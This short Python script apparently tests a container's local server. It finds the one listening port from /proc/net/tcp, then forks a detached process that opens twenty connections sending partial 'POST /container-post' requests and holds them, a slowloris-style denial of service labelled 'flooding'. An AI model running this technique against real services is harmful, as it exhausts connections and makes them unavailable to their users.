import os, socket, time
listening = [line.split() for line in open("/proc/net/tcp")][1:]
(port,) = [int(words[1].split(":")[1], 16) for words in listening if words[3] == "0A"]
if os.fork() == 0:
    os.setsid()
    held = []
    while len(held) < 20:
        line = socket.create_connection(("127.0.0.1", port))
        line.sendall(b"POST /container-post HTTP/1.1\r\n")
        held.append(line)
    time.sleep(1000)
time.sleep(1)
print("flooding")
